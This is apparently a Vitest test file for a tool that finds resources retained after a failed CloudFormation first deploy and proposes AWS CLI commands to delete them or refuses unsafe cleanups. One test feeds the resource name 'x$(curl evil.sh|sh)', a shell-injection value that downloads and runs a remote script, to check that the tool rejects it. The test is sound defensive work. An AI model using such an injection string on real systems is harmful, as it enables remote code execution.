import {describe, expect, it} from 'vitest';
import {cleanupRefusal, deleteStackCommand} from '../../source/domain/failed-first-deploy.js';
import {NOT_READ, removal, removalLine, retainedInEvents, type RetainedState} from '../../source/domain/retained.js';
import {Events, arnOf, stack} from './builders.js';

const REGION = 'us-east-2';

/** A first deploy that failed and rolled back: Bucket retained, Table deleted, Queue never created. */
function failedCreate(name = 'panther-prod'): Events {
  return new Events(name)
    .self(0, 'CREATE_IN_PROGRESS', 'User Initiated')
    .res(1, 'Bucket', 'AWS::S3::Bucket', 'CREATE_IN_PROGRESS')
    .res(1, 'Bucket', 'AWS::S3::Bucket', 'CREATE_IN_PROGRESS', 'Resource creation Initiated', 'my-bucket')
    .res(2, 'Bucket', 'AWS::S3::Bucket', 'CREATE_COMPLETE', '', 'my-bucket')
    .res(2, 'Table', 'AWS::DynamoDB::Table', 'CREATE_COMPLETE', '', 'my-table')
    .res(3, 'Queue', 'AWS::SQS::Queue', 'CREATE_FAILED', 'Access Denied')
    .self(4, 'ROLLBACK_IN_PROGRESS', 'The following resource(s) failed to create: [Queue]. Rollback requested by user.')
    .res(5, 'Table', 'AWS::DynamoDB::Table', 'DELETE_IN_PROGRESS', '', 'my-table')
    .res(6, 'Table', 'AWS::DynamoDB::Table', 'DELETE_COMPLETE', '', 'my-table')
    .res(5, 'Bucket', 'AWS::S3::Bucket', 'DELETE_SKIPPED')
    .res(5, 'Queue', 'AWS::SQS::Queue', 'DELETE_COMPLETE')
    .self(7, 'ROLLBACK_COMPLETE');
}

describe('retained resources in events', () => {
  it('keeps the resources whose latest state is DELETE_SKIPPED, with the physical ID an earlier event gave', () => {
    const events = failedCreate();
    const kept = retainedInEvents(events.list);
    expect(kept).toEqual([
      {
        stackName: 'panther-prod',
        stackId: events.stackId,
        logicalResourceId: 'Bucket',
        physicalResourceId: 'my-bucket',
        resourceType: 'AWS::S3::Bucket',
        skippedAt: events.list.find(e => e.status === 'DELETE_SKIPPED')!.timestamp,
      },
    ]);
    // Newest first, as DescribeStackEvents pages them: the same answer.
    expect(retainedInEvents([...events.list].reverse())).toEqual(kept);
  });

  it('leaves out a resource skipped once and deleted later, and one never created (no physical ID)', () => {
    const events = failedCreate()
      .res(8, 'Bucket', 'AWS::S3::Bucket', 'DELETE_IN_PROGRESS', '', 'my-bucket')
      .res(9, 'Bucket', 'AWS::S3::Bucket', 'DELETE_COMPLETE', '', 'my-bucket')
      .res(9, 'Ghost', 'AWS::S3::Bucket', 'DELETE_SKIPPED');
    expect(retainedInEvents(events.list)).toEqual([]);
  });
});

describe('the command that removes a retained resource', () => {
  const bucket = {resourceType: 'AWS::S3::Bucket', physicalResourceId: 'my-bucket'};
  const state = (over: Partial<RetainedState>): RetainedState => ({exists: true, empty: null, found: '', ...over});

  it('rb --force for an empty or unversioned bucket; a versioned one is to be emptied of its versions first, without --force', () => {
    expect(removal(bucket, state({empty: true}), REGION)).toEqual({command: 'aws s3 rb s3://my-bucket --force --region us-east-2', note: ''});
    expect(removal(bucket, state({empty: false}), REGION)).toEqual({
      command: 'aws s3 rb s3://my-bucket --force --region us-east-2',
      note: '--force deletes its objects: keep what you need first',
    });
    const versioned = removal(bucket, state({empty: false, versioned: true}), REGION);
    expect(versioned.command).toBe('aws s3 rb s3://my-bucket --region us-east-2');
    expect(versioned.note).toMatch(/^empty it of every object version and delete marker first/);
    // Not read: the general caveat.
    expect(removalLine(removal(bucket, NOT_READ, REGION))).toBe(
      'aws s3 rb s3://my-bucket --force --region us-east-2 (a versioned bucket needs its object versions deleted first)',
    );
  });

  it('nothing to run for a resource gone since or a key already pending deletion', () => {
    expect(removal(bucket, state({exists: false}), REGION)).toEqual({command: '', note: 'gone (deleted since): nothing to do'});
    const key = {resourceType: 'AWS::KMS::Key', physicalResourceId: '1234abcd-12ab-34cd-56ef-1234567890ab'};
    expect(removal(key, state({pendingDeletion: true}), REGION).command).toBe('');
    expect(removal(key, state({}), REGION).command).toBe(
      'aws kms schedule-key-deletion --key-id 1234abcd-12ab-34cd-56ef-1234567890ab --pending-window-in-days 7 --region us-east-2',
    );
  });

  it('a role: its policies detached first; tables and log groups in their region; other types by hand', () => {
    const role = removal({resourceType: 'AWS::IAM::Role', physicalResourceId: 'PantherAuditRole-us-east-2'}, NOT_READ, REGION);
    expect(role.command).toBe('aws iam delete-role --role-name PantherAuditRole-us-east-2');
    expect(role.note).toContain('aws iam list-attached-role-policies --role-name PantherAuditRole-us-east-2');
    expect(removal({resourceType: 'AWS::DynamoDB::Table', physicalResourceId: 'panther-users'}, state({empty: true}), REGION).command).toBe(
      'aws dynamodb delete-table --table-name panther-users --region us-east-2',
    );
    expect(removal({resourceType: 'AWS::Logs::LogGroup', physicalResourceId: '/aws/lambda/panther-cfn'}, NOT_READ, REGION).command).toBe(
      'aws logs delete-log-group --log-group-name /aws/lambda/panther-cfn --region us-east-2',
    );
    expect(removal({resourceType: 'AWS::Foo::Bar', physicalResourceId: 'x1'}, NOT_READ, REGION)).toEqual({
      command: '',
      note: 'delete AWS::Foo::Bar x1 by hand (it is no longer managed by CloudFormation)',
    });
  });

  it('never puts a name a shell would interpret into a command', () => {
    const hostile = removal({resourceType: 'AWS::DynamoDB::Table', physicalResourceId: 'x$(curl evil.sh|sh)'}, NOT_READ, REGION);
    expect(hostile.command).toBe('');
    expect(hostile.note).toMatch(/shell/);
  });
});

describe('which stacks cleanup deletes', () => {
  const rolledBack = stack('panther-prod', {status: 'ROLLBACK_COMPLETE'});

  it('a root whose only operation, its first deploy, rolled back', () => {
    expect(cleanupRefusal(rolledBack, failedCreate().list, REGION)).toBeNull();
    expect(deleteStackCommand(rolledBack, REGION)).toBe(`aws cloudformation delete-stack --stack-name ${arnOf('panther-prod')} --region us-east-2`);
  });

  it('refuses a nested stack, naming its root', () => {
    const nested = stack('panther-prod-Core-ABC', {status: 'DELETE_COMPLETE', parentId: arnOf('panther-prod'), rootId: arnOf('panther-prod')});
    expect(cleanupRefusal(nested, [], REGION)).toMatch(/^panther-prod-Core-ABC is a nested stack of panther-prod: .*--stack panther-prod/);
  });

  it('refuses a deployed stack, and says when it was updated since', () => {
    const healthy = stack('panther-prod', {status: 'CREATE_COMPLETE'});
    expect(cleanupRefusal(healthy, [], REGION)).toMatch(/^panther-prod is CREATE_COMPLETE: a deployed stack, not a failed first deploy/);
    const updated = new Events('panther-prod')
      .self(0, 'CREATE_IN_PROGRESS', 'User Initiated')
      .self(5, 'CREATE_COMPLETE')
      .self(10, 'UPDATE_IN_PROGRESS', 'User Initiated')
      .self(11, 'UPDATE_ROLLBACK_IN_PROGRESS')
      .self(12, 'UPDATE_ROLLBACK_COMPLETE');
    expect(cleanupRefusal(stack('panther-prod', {status: 'UPDATE_ROLLBACK_COMPLETE'}), updated.list, REGION)).toMatch(
      /^panther-prod is UPDATE_ROLLBACK_COMPLETE, updated since its first deploy: a deployed stack/,
    );
  });

  it('refuses a REVIEW_IN_PROGRESS stack (a create change set never executed), giving its delete by ARN', () => {
    const review = stack('panther-prod', {status: 'REVIEW_IN_PROGRESS'});
    expect(cleanupRefusal(review, [], REGION)).toBe(
      `panther-prod is REVIEW_IN_PROGRESS: a create change set was made on it and never executed; it holds the name and no resource. ` +
        `If no deploy of it is open, delete it by its ARN: aws cloudformation delete-stack --stack-name ${arnOf('panther-prod')}`,
    );
  });

  it('refuses a running operation, a deleted stack and a failed delete, each saying what to do', () => {
    expect(cleanupRefusal(stack('panther-prod', {status: 'CREATE_IN_PROGRESS'}), [], REGION)).toMatch(/an operation is running. Wait for it to end/);
    expect(cleanupRefusal(stack('panther-prod', {status: 'DELETE_COMPLETE', deletedAt: '2024-05-01T11:00:00.000Z'}), [], REGION)).toMatch(
      /already deleted \(DELETE_COMPLETE, 2024-05-01T11:00:00.000Z\): there is nothing left to delete/,
    );
    const failed = cleanupRefusal(
      stack('panther-prod', {status: 'DELETE_FAILED', statusReason: 'The following resource(s) failed to delete: [Bucket]. '}),
      [],
      REGION,
    );
    expect(failed).toContain('DELETE_FAILED (The following resource(s) failed to delete: [Bucket]. )');
    expect(failed).toContain(`aws cloudformation delete-stack --stack-name ${arnOf('panther-prod')} --region us-east-2`);
  });

  it('refuses a ROLLBACK_FAILED first deploy, naming what the rollback could not delete and how to delete it by hand', () => {
    const events = new Events('panther-prod')
      .self(0, 'CREATE_IN_PROGRESS', 'User Initiated')
      .res(1, 'Vpc', 'AWS::EC2::VPC', 'CREATE_COMPLETE', '', 'vpc-1')
      .res(2, 'Fn', 'AWS::Lambda::Function', 'CREATE_FAILED', 'boom')
      .self(3, 'ROLLBACK_IN_PROGRESS')
      .res(4, 'Vpc', 'AWS::EC2::VPC', 'DELETE_FAILED', 'has dependencies', 'vpc-1')
      .self(5, 'ROLLBACK_FAILED');
    const refusal = cleanupRefusal(stack('panther-prod', {status: 'ROLLBACK_FAILED'}), events.list, REGION)!;
    expect(refusal).toMatch(
      /^panther-prod's first deploy failed and its rollback failed too \(ROLLBACK_FAILED\): resources it could not delete \(Vpc\)/,
    );
    expect(refusal).toContain(`aws cloudformation delete-stack --stack-name ${arnOf('panther-prod')} --region us-east-2`);
    expect(refusal).toContain('--retain-resources Vpc');
  });

  it('refuses a ROLLBACK_COMPLETE stack whose events show another operation, or none', () => {
    const odd = failedCreate().self(8, 'UPDATE_IN_PROGRESS', 'User Initiated').self(9, 'ROLLBACK_COMPLETE');
    expect(cleanupRefusal(rolledBack, odd.list, REGION)).toMatch(
      /ROLLBACK_COMPLETE but its history has another operation \(UPDATE\) after its first deploy/,
    );
    expect(cleanupRefusal(rolledBack, [], REGION)).toMatch(/its events show no first deploy/);
  });
});
